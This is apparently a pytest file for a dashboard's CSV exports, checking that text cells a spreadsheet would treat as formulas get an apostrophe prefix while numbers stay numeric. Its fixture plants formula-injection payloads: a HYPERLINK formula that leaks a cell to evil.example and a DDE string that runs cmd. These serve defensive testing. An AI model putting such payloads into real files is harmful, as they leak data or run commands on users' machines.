"""Every CSV the console writes neutralises cells a spreadsheet would run as a formula (text that
starts with = + - @, a tab or a carriage return gets a leading apostrophe), and only text: numbers,
negative ones included, stay numbers a spreadsheet adds up."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest
from sqlmodel import select

from core import audit, models, reports
from core.db import session_scope
from core.rules.spreadsheet import FORMULA_LEADS, safe_cell, spreadsheet_safe
from tests.test_reports import DAY, engine, utc  # noqa: F401  (the reports' hand-computed site)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def hostile(engine):  # noqa: F811
    """The reports' site with a vehicle, tags, sources and audit rows a spreadsheet would run."""
    with session_scope(engine) as s:
        s.get(models.Vehicle, "v1").name = HYPERLINK
        s.get(models.Vehicle, "v2").name = "@SUM(1+1)*cmd|' /C calc'!A0"
        for signal in s.exec(select(models.GridSignal)).all():
            signal.source = "+upload.csv"
        for run in s.exec(select(models.DispatchRun)).all():
            run.message = "-2+3"
        s.add(models.AuditEvent(time=utc(2026, 1, 12, 10), actor="\t=1+1", action="rename", target="\r=2+2",
                                after={"name": HYPERLINK}))  # fmt: skip
    return engine


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", list(reports.REPORTS))
def test_no_report_csv_has_a_cell_a_spreadsheet_would_run(hostile, name):
    text = reports.build_report(name, date_from=DAY, date_to=DAY, site_id="s1", engine=hostile).to_csv()
    rows = csv_cells(text)
    assert len(rows) > 1, f"{name}: the test site should give rows"
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_LEADS) or is_number(cell), f"{name}: {cell!r} would run"


def test_the_hostile_cells_are_kept_as_text(hostile):
    def cells(name):
        return {c for row in csv_cells(reports.build_report(name, date_from=DAY, date_to=DAY, site_id="s1",
                                                              engine=hostile).to_csv()) for c in row}  # fmt: skip

    sessions = cells("sessions")
    assert "'" + HYPERLINK in sessions and "'@SUM(1+1)*cmd|' /C calc'!A0" in sessions
    assert "'+upload.csv" in cells("grid-events")
    assert "'-2+3" in cells("dispatch-runs")
    assert {"'\t=1+1", "'\n=2+2"} <= cells("audit")  # a carriage return inside a cell becomes a quoted line break


def test_negative_numbers_stay_numbers():
    frame = pd.DataFrame(
        {"power_kw": [-5.2, 3.0], "mixed": [-1.5, "=1+1"], "note": ["-5.2 kW", None], "count": [-3, 4]}
    )
    text = reports.Report("t", frame, "t.csv").to_csv()
    assert text.splitlines() == ["power_kw,mixed,note,count", "-5.2,-1.5,'-5.2 kW,-3", "3.0,'=1+1,,4"]
    # read back as a spreadsheet would: the numbers are numbers
    back = pd.read_csv(io.StringIO(text))
    assert back["power_kw"].tolist() == [-5.2, 3.0] and back["count"].tolist() == [-3, 4]


def test_the_audit_page_export_is_neutralised_too(hostile):
    with session_scope(hostile) as s:
        rows = audit.list_audit(session=s, timezone="Europe/Amsterdam", date_from=date(2026, 1, 12))
    cells = [c for row in csv_cells(audit.audit_csv(rows)) for c in row]
    assert "'\t=1+1" in cells and "'\n=2+2" in cells
    assert all(not c.startswith(FORMULA_LEADS) or is_number(c) for c in cells)


def test_the_rule_itself():
    for lead in FORMULA_LEADS:
        assert spreadsheet_safe(lead + "x") == "'" + lead + "x"
    assert spreadsheet_safe("E-bus 1") == "E-bus 1" and spreadsheet_safe("") == ""
    assert safe_cell(-5.2) == -5.2 and safe_cell(None) is None and safe_cell("-5") == "'-5"
    assert safe_cell("\r=1\r\nx") == "'\n=1\nx"
